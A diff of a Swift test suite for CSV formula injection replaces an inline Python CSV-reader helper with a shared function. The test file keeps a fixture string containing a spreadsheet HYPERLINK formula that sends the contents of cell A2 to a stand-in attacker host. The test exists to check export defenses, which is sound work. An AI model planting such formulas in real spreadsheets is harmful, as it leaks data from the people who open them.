@@ -11,18 +11,7 @@ import Testing
 struct FormulaInjectionTests {
     static let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Details\")"
 
-    /// Rows of a CSV file as Python's csv module reads them (an independent reader).
-    static func pythonCSV(_ path: String) throws -> [[String: String]] {
-        let process = Process()
-        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
-        process.arguments = ["python3", "-c", "import csv, json, sys; print(json.dumps(list(csv.DictReader(open(sys.argv[1], newline='')))))", path]
-        let out = Pipe()
-        process.standardOutput = out
-        try process.run()
-        let data = out.fileHandleForReading.readDataToEndOfFile()
-        process.waitUntilExit()
-        return try JSONSerialization.jsonObject(with: data) as! [[String: String]]
-    }
+    static func pythonCSV(_ path: String) throws -> [[String: String]] { try pythonCSVRows(path) }
 
     func exportConfig(folder: String, guardOn: Bool) throws -> ExportPipelineConfig {
         var text = try String(contentsOfFile: repositoryPath("Pipelines/portfolio-export-csv.yml"), encoding: .utf8)
